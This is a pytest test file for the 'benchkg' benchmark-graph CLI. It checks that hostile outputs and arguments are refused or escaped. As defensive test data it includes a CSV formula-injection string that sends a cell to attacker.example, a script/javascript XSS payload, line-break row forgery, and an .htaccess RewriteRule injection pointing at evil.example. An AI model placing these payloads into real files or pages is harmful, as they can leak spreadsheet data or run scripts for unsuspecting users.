"""Bad outputs and hostile arguments: exit 2 naming what to fix, and nothing written or replaced —
an export onto a folder or a device, into the data folder, a query file that is not UTF-8, a
parameter no store can hold, an importer handed /dev/zero. Written files honour the umask, and a
temporary left by a killed run is removed by the next."""

from __future__ import annotations

import hashlib
import os
import re
import resource
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import cli


def tree_hash(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        h.update(str(p.relative_to(folder)).encode())
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


def test_an_export_onto_a_folder_is_refused_and_the_folder_kept(data_copy, tmp_path):
    target = tmp_path / "out.nq"
    target.mkdir()
    (target / "keep.txt").write_text("mine")
    before = tree_hash(target)
    result = cli("export", "-o", target, "--data", data_copy)
    assert result.exit_code == 2 and f"{target} is a folder; give a file name" in result.stderr
    assert tree_hash(target) == before and not list(target.parent.glob(".out.nq.*"))


def test_an_export_onto_a_device_is_refused_and_the_device_kept(data_copy):
    result = cli("export", "-o", "/dev/null", "--format", "nq", "--data", data_copy)
    assert result.exit_code == 2 and "/dev/null is not a regular file" in result.stderr
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.parametrize("command", [["export", "-o", "{data}/benchmarks/x.nq"], ["site", "-o", "{data}/site"]])
def test_outputs_inside_the_data_folder_are_refused(data_copy, command):
    before = tree_hash(data_copy)
    result = cli(*[a.format(data=data_copy) for a in command], "--data", data_copy)
    assert result.exit_code == 2 and "is inside the data folder" in result.stderr
    assert tree_hash(data_copy) == before


def test_a_query_file_that_is_not_utf8_names_its_line(data_copy, tmp_path):
    rq = tmp_path / "latin1.rq"
    rq.write_bytes(b'# caf\xc3\xa9 is fine\nSELECT * WHERE { ?s ?p "caf\xe9" }\n')
    result = cli("query", rq, "--data", data_copy)
    assert result.exit_code == 2 and f"{rq}:2: not valid UTF-8 (byte 0xe9)" in result.stderr


@pytest.mark.parametrize(
    "value,said",
    [("1e999999999", "is too large"), ("1e-999999999", "more than 18 decimal places"), ("1" * 5000, "has 5000 digits")],
)
def test_a_parameter_no_store_can_hold_is_refused(data_copy, value, said):
    result = cli("query", "round-over-round", "-p", f"accelerator_count={value}", "--data", data_copy)
    assert result.exit_code == 2 and said in result.stderr and "accelerator_count" in result.stderr


def test_an_importer_handed_a_device_refuses_it(tmp_path):
    out = tmp_path / "out"
    result = cli("import", "epoch", "/dev/zero", "--out", out)
    assert result.exit_code == 2 and "/dev/zero: not a regular file" in result.stderr
    assert not out.exists()


def test_written_files_honour_the_umask_and_stale_temporaries_go(data_copy, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    stale = out / ".graph.nq.999999999-x.tmp"  # a run that was killed mid-write (no such pid)
    stale.write_text("half")
    old = os.umask(0o022)
    try:
        result = cli("export", "-o", out / "graph.nq", "--data", data_copy)
    finally:
        os.umask(old)
    assert result.exit_code == 0
    assert stat.S_IMODE((out / "graph.nq").stat().st_mode) == 0o644
    assert not stale.exists() and sorted(p.name for p in out.iterdir()) == ["graph.nq"]


@pytest.mark.parametrize("fmt", ["nt", "nq", "ttl", "trig"])
def test_an_export_sorted_in_runs_on_disk_is_the_export_sorted_in_memory(data_copy, tmp_path, monkeypatch, fmt):
    """Issue 42: an export holds at most ``RUN`` quads in memory; a larger graph is sorted in runs
    written to temporary files and merged as it is written. The bytes are the same either way, and no
    run is left behind (a triple in several graphs written once: export.sorted_items' doctest)."""
    from benchkg.publish import export

    whole = tmp_path / f"whole.{fmt}"
    assert cli("export", "-o", whole, "--data", data_copy).exit_code == 0
    monkeypatch.setattr(export, "RUN", 2_000)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    runs = tmp_path / f"runs.{fmt}"
    assert cli("export", "-o", runs, "--data", data_copy).exit_code == 0
    assert runs.read_bytes() == whole.read_bytes() and whole.stat().st_size > 1_000_000
    assert not any((tmp_path / "tmp").iterdir())


FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"CoreWeave")'


@pytest.mark.parametrize("fmt,separator", [("csv", ","), ("tsv", "\t"), ("sparql-csv", ",")])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(data_copy, fmt, separator):
    """Issue 33: a system name that is a formula reaches CSV and TSV as text (OWASP: prefixed with
    '), and a negative number stays a number."""
    import csv
    import io
    import json

    path = data_copy / "benchmarks" / "bench-mlperf-v6-1-coreweave-gb200-nvl72-llama2-70b-server.json"
    record = json.loads(path.read_text())
    record["system_name"] = FORMULA
    path.write_text(json.dumps(record, indent=2))
    result = cli("results", "--where", "suite=mlperf-inference-v6.1", "--columns", "claim,platform,value",
                 "--format", fmt, "--limit", "0", "--data", data_copy)  # fmt: skip
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout), delimiter=separator) for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_csv_cell_keeps_numbers_and_text_and_disarms_formulas():
    from benchkg.answers.results import csv_cell

    assert [csv_cell(t) for t in ("-3.5", "+1e3", "-", "-x", "@a", "\tcmd", "a=b")] == [
        "-3.5", "+1e3", "-", "'-x", "'@a", "'\tcmd", "a=b"
    ]  # fmt: skip


@pytest.mark.parametrize("fmt", ["csv", "tsv", "sparql-csv", "sparql-tsv", "markdown", "table"])
def test_every_tabular_format_keeps_a_row_on_its_line_whatever_a_cell_holds(data_copy, fmt):
    """Issue 64, round 5: a line break of any kind in a record's text is an escape in every tabular format,
    so a reader of lines (as most read TSV) finds one row a result and no row of the text's choosing."""
    breaks = "\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
    _renamed(data_copy, "Fast" + "".join(f"{b}={n}+1" for n, b in enumerate(breaks)))
    result = cli("results", "--where", "suite=mlperf-inference-v6.1", "--columns", "claim,platform",
                 "--format", fmt, "--limit", "0", "--wide", "--data", data_copy)  # fmt: skip
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()  # (str.splitlines splits at every one of them)
    assert not any(line.lstrip("| ").startswith("=") for line in lines)
    row = [line for line in lines if "coreweave-gb200-nvl72-llama2-70b-server" in line]
    assert len(row) == 1 and all(f"={n}+1" in row[0] for n in range(len(breaks))), row


def test_a_lock_that_is_a_link_is_refused_and_its_target_kept(data_copy, tmp_path):
    """Issue 33: a cloned repository's .benchkg/…/lock that links elsewhere: the build refuses it
    (exit 2, naming the link) and writes nothing into the file it points at."""
    first = cli("build", "--data", data_copy)
    assert first.exit_code == 0, first.output
    locks = list((data_copy.parent / ".benchkg").rglob("lock"))
    assert locks, "the store keeps its lock beside it"
    target = tmp_path / "precious.txt"
    target.write_text("keep me\n")
    for lock in locks:
        lock.unlink()
        lock.symlink_to(target)
    result = cli("build", "--data", data_copy)
    assert result.exit_code == 2 and "symbolic link" in result.stderr, result.output
    assert target.read_text() == "keep me\n"


def test_markdown_shows_a_record_s_html_and_links_as_text(data_copy):
    """Issue 33: raw HTML or a Markdown link in a record reaches --format markdown escaped, one row per
    line: rendered, nothing runs and nothing links."""
    import json

    path = data_copy / "benchmarks" / "bench-mlperf-v6-1-coreweave-gb200-nvl72-llama2-70b-server.json"
    record = json.loads(path.read_text())
    record["system_name"] = "<script>alert(1)</script>\n| forged | row |\n[click](javascript:alert(2))"
    path.write_text(json.dumps(record, indent=2))
    result = cli("results", "--where", "suite=mlperf-inference-v6.1", "--columns", "claim,platform",
                 "--format", "markdown", "--limit", "0", "--data", data_copy)  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "<script" not in result.stdout and "&lt;script&gt;" in result.stdout
    assert not re.search(r"(?<!\\)\]\(javascript", result.stdout) and "\\[click\\]" in result.stdout
    rows = [line for line in result.stdout.splitlines() if "coreweave-gb200-nvl72-llama2-70b-server" in line]
    assert len(rows) == 1 and rows[0].count(" | ") == 1, "one row, two cells: the forged row is text"


def _renamed(data_copy, name: str) -> None:
    import json

    path = data_copy / "benchmarks" / "bench-mlperf-v6-1-coreweave-gb200-nvl72-llama2-70b-server.json"
    record = json.loads(path.read_text())
    record["system_name"] = name
    path.write_text(json.dumps(record, indent=2))


def test_sparql_xml_is_well_formed_whatever_a_record_holds(data_copy):
    """Issue 33: a control character in a record's text is U+FFFD in sparql-xml, which stays XML."""
    import xml.etree.ElementTree as ET

    _renamed(data_copy, "CoreWeave\x01\x1b[31m GB200 & <NVL72>")
    result = cli("results", "--where", "suite=mlperf-inference-v6.1", "--columns", "claim,platform",
                 "--format", "sparql-xml", "--limit", "0", "--data", data_copy)  # fmt: skip
    assert result.exit_code == 0, result.output
    literals = [e.text for e in ET.fromstring(result.stdout).iter("{http://www.w3.org/2005/sparql-results#}literal")]
    assert "CoreWeave\ufffd\ufffd[31m GB200 & <NVL72>" in literals


def test_show_keeps_a_record_s_text_on_its_own_line(data_copy):
    """Issue 33: a line break in a record's text cannot forge a line of `show` ("measured_by: …")."""
    _renamed(data_copy, "CoreWeave GB200\nmeasured_by: mlcommons")
    result = cli("show", "bench-mlperf-v6-1-coreweave-gb200-nvl72-llama2-70b-server", "--data", data_copy)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert "  system_name: CoreWeave GB200 ↵ measured_by: mlcommons" in lines
    assert [line for line in lines if line.strip().startswith("measured_by:")] == ["  measured_by: vendor"]


@pytest.mark.parametrize("name", ["CoreWeave $5 vs $6", "CoreWeave $\\frac{1$ GB200"])
def test_a_chart_draws_dollars_as_text(data_copy, tmp_path, name):
    """Issue 33: matplotlib read "$…$" in a name as math: "$5 vs $6" was drawn "5vs6", "$\\frac{1$" crashed."""
    _renamed(data_copy, name)
    chart = tmp_path / "chart.svg"
    result = cli(
        "query", "leaderboard", "--param", "suite=mlperf-inference-v6.1", "--chart", chart, "--data", data_copy
    )
    assert result.exit_code == 0, result.output
    assert 'id="DejaVuSans-7"' in chart.read_text(), "the $ glyph (DejaVu Sans' 7th) is drawn; as math it is not"


@pytest.mark.parametrize(
    "option",
    [
        ["--workers", "0"],
        ["--workers", "-1"],
        ["--timeout", "0"],
        ["--max-result-mb", "0"],
        ["--max-result-mb", "nan"],
        ["--timeout", "nan"],
        ["--max-memory-mb", "0"],
        ["--max-memory-mb", "nan"],
        ["--max-memory-mb", "1"],
    ],
)
def test_serve_refuses_a_limit_that_would_refuse_every_query(data_copy, option):
    """Issue 33: serve started with --workers 0 (or -1, --timeout 0, --max-result-mb 0 or nan) and then
    refused every query, or crashed (exit 3); it now says which limit, exit 2, before it builds."""
    result = cli("serve", *option, "--port", "0", "--data", data_copy)
    assert result.exit_code == 2 and option[0] in result.stderr, result.output
    assert not (data_copy.parent / ".benchkg").exists(), "refused before the store was built"


def _run(*args, limit: int | None = None, stdout=subprocess.PIPE):
    """benchkg in a process of its own, its files held to ``limit`` bytes (``ulimit -f``) if given."""

    def hold():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [sys.executable, "-m", "benchkg.cli", *map(str, args)],
        stdout=stdout,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=hold if limit else None,
    )


def _export(data: Path, out: Path) -> bytes:
    assert _run("export", "--format", "nq", "-o", out, "--data", data).returncode == 0
    return out.read_bytes()


def test_a_write_past_the_file_size_limit_is_exit_2_and_loses_nothing(data_copy, tmp_path):
    """A full disk and a file-size limit refuse writes alike (the limit can be set without root):
    every command said "failed unexpectedly" (exit 3), and the store's open called it damaged and
    said to delete it. Now: exit 2 saying what to do, the store as it was or as the next build makes
    it, and no output file half-written."""
    clean = tmp_path / "clean"
    shutil.copytree(data_copy, clean / "data")
    assert _run("build", "--data", clean / "data").returncode == 0
    want = _export(clean / "data", tmp_path / "clean.nq")

    first = _run("build", "--data", data_copy, limit=64_000)
    assert first.returncode == 2 and "size limit (ulimit -f): raise the limit and run it again" in first.stderr
    assert "unexpectedly" not in first.stderr and "delete" not in first.stderr, first.stderr
    assert _run("build", "--data", data_copy).returncode == 0
    assert _export(data_copy, tmp_path / "after.nq") == want

    for args in (["export", "--format", "nq", "-o", tmp_path / "big.nq"], ["site", "-o", tmp_path / "site"]):
        result = _run(*args, "--data", data_copy, limit=200_000)
        assert result.returncode == 2 and "size limit" in result.stderr, result.stderr
        assert not (tmp_path / "big.nq").exists() and not (tmp_path / "site").exists()
        assert not [p for p in tmp_path.iterdir() if p.name.startswith((".big", ".site"))]
    with open(tmp_path / "rows.csv", "w") as out:  # the output a shell redirect opened
        result = _run("query", "accelerator-fabrics", "--format", "csv", "--data", data_copy, limit=100, stdout=out)
    assert result.returncode == 2 and "cannot write: the file would pass the size limit" in result.stderr
    assert _export(data_copy, tmp_path / "still.nq") == want


def test_a_closed_output_is_exit_2_before_anything_runs(data_copy):
    result = subprocess.run(
        [sys.executable, "-m", "benchkg.cli", "build", "--data", str(data_copy)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        close_fds=True,
        preexec_fn=lambda: os.close(1),
    )
    assert result.returncode == 2 and "the output is closed" in result.stderr
    assert not (data_copy.parent / ".benchkg").exists(), "it built with nowhere to say so"


@pytest.mark.parametrize(
    "args,said",
    [
        (
            ["site", "-o", "SITE", "--published-at", "https://x.org/\nRewriteRule ^ http://evil.example/"],
            "--published-at",
        ),
        (["site", "-o", "SITE", "--endpoint", "ftp://x.org/sparql"], "--endpoint 'ftp://x.org/sparql' is not"),
        (["site", "-o", "SITE", "--endpoint", "not a url"], "--endpoint 'not a url' is not"),
        (["site", "-o", "SITE", "--endpoint", 'http://x.org/sparql"> <http://evil/'], "holds '\"'"),
        (["query", "accelerator-fabrics", "--endpoint", "http://127.0.0.1:9/\udcff"], "holds '\\udcff'"),
        (["query", "accelerator-fabrics", "--chart", "CHART.svg", "--title", "\udcff\udcfe"], "not UTF-8"),
        (["push", "--endpoint", "http://127.0.0.1:9/q", "--gsp", "http://127.0.0.1:9/\ng"], "--gsp"),
    ],
)
def test_an_option_is_checked_as_it_is_parsed(args, said, data_copy, tmp_path):
    """A URL that would write rewrite rules into .htaccess (a newline), end an IRI in void.ttl (a
    quote), name another protocol, or hold bytes that are not UTF-8, and a title that is not UTF-8:
    exit 2 naming the option, before any build (they were accepted, or crashed with exit 3)."""
    args = [a.replace("SITE", str(tmp_path / "site")).replace("CHART", str(tmp_path / "chart")) for a in args]
    result = cli(*args, "--data", data_copy)
    assert result.exit_code == 2 and said in result.stderr and "unexpectedly" not in result.stderr, result.stderr
    assert not (tmp_path / ".benchkg").exists() and not (tmp_path / "site").exists()
    assert not list(tmp_path.glob("chart*"))


def test_a_site_onto_a_link_to_a_site_is_refused_and_both_kept(data_copy, tmp_path):
    """The link was renamed aside, a new folder put in its place and the rename's rmtree failed on
    the link (exit 3, the link gone): now exit 2 naming the folder to give, link and site untouched."""
    real = tmp_path / "real-site"
    assert cli("site", "-o", real, "--data", data_copy).exit_code == 0
    link = tmp_path / "site"
    link.symlink_to(real)
    before = tree_hash(real)
    result = cli("site", "-o", link, "--data", data_copy)
    assert result.exit_code == 2 and f"give the folder itself: -o {real}" in result.stderr, result.stderr
    assert link.is_symlink() and os.readlink(link) == str(real) and tree_hash(real) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([".benchkg", "data", "real-site", "site"])


def test_init_that_cannot_write_leaves_nothing_to_block_the_next(tmp_path):
    """On a full disk (here a file-size limit, which needs no root) init left an empty benchkg.toml,
    and the next init refused the folder as not empty. It writes the repository aside and moves it
    into place whole."""
    repo = tmp_path / "claims"
    failed = _run("init", repo, limit=100)
    assert failed.returncode == 2 and "size limit" in failed.stderr and "nothing was written" in failed.stderr
    assert list(tmp_path.iterdir()) == []
    done = _run("init", repo)
    assert done.returncode == 0, done.stderr
    assert "[benchkg]" in (repo / "benchkg.toml").read_text() and (repo / "data" / "benchmarks").is_dir()


@pytest.mark.parametrize(
    "call,said",
    [
        (lambda b, d: b.open(123), "benchkg.open(data=123): data is text or a path, not int"),
        (lambda b, d: b.open(d, timeout="30"), "benchkg.open(timeout='30'): timeout is a number or None, not str"),
        (lambda b, d: b.open(d, persist=1), "persist is True or False, not int"),
        (lambda b, d: b.open(d).query(5), "query(name=5): name is text, not int"),
        (lambda b, d: b.open(d).query("leaderboard", limit="3"), "limit is a whole number or None, not str"),
        (lambda b, d: b.open(d).show(None), "show(ident=None): ident is text, not NoneType"),
        (lambda b, d: b.open(d).compare("a", 7), "compare(b=7): b is text, not int"),
        (lambda b, d: b.open(d).results(where="round=6.1"), "write where=['round=6.1']"),
        (lambda b, d: b.open(d).results(group_by=[1]), "results(group_by=[1]): group_by is a list of text"),
        (lambda b, d: b.api.explain(None), "benchkg.explain(term=None)"),
        (lambda b, d: b.open(d).results(top="5"), "results(top='5'): top is a whole number or None, not str"),
        (lambda b, d: b.open(d).results(agg=1), "results(agg=1): agg is text or None, not int"),
        (lambda b, d: b.open(d).results(sort=5), "results(sort=5): sort is text or None, not int"),
        (lambda b, d: b.open(d).results(pair=["round=6.0,6.1"]), "results(pair=['round=6.0,6.1']): pair is text"),
        (lambda b, d: b.open(d).results(limit=-1), "results(limit=-1): limit is 0 (every row) or more"),
        (lambda b, d: b.open(d).query("leaderboard", limit=-1), "query(limit=-1): limit is 0 (every row) or more"),
        (lambda b, d: b.open(d).query("leaderboard", offset=-5), "query(offset=-5): offset is 0 or more"),
    ],
)
def test_an_api_call_with_a_wrong_type_says_which_argument(call, said, data_copy):
    """Issue 33: API calls with wrong types failed deep inside (a TypeError from pathlib, an
    AttributeError on None, a string read letter by letter as where clauses); issue 45: results()
    took any type (top='5' a TypeError, sort=5 an AttributeError) and limit=-1 answered no rows."""
    import benchkg
    import benchkg.api
    from benchkg.kernel.errors import UsageError

    with pytest.raises(UsageError) as raised:
        call(benchkg, data_copy)
    assert said in str(raised.value)


def test_a_base_without_a_trailing_slash_still_makes_whole_iris(data_copy):
    """Issue 45: base='https://example.org' wrote https://example.orgid/benchmarks/…"""
    import benchkg

    kg = benchkg.open(data_copy, base="https://example.org", persist=False)
    rows = kg.results(where=["submitter=coreweave"], columns=["claim"], limit=1)
    assert kg.base == "https://example.org/"
    assert str(rows.results.rows[0]["claim"].value).startswith("https://example.org/id/benchmarks/")


def test_init_dot_fills_the_empty_folder_it_is_run_in(tmp_path):
    """Issue 45: `benchkg init .` in an empty current folder said "Device or resource busy"."""
    here = tmp_path / "claims"
    here.mkdir()
    done = subprocess.run([sys.executable, "-m", "benchkg.cli", "init", "."], cwd=here, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "next: git init && benchkg validate" in done.stdout
    assert (here / "benchkg.toml").is_file() and (here / "data" / "benchmarks").is_dir()
    assert not [p for p in here.iterdir() if p.name.startswith(".benchkg-init-")]
    again = subprocess.run([sys.executable, "-m", "benchkg.cli", "validate"], cwd=here, capture_output=True, text=True)
    assert again.returncode == 0, again.stderr
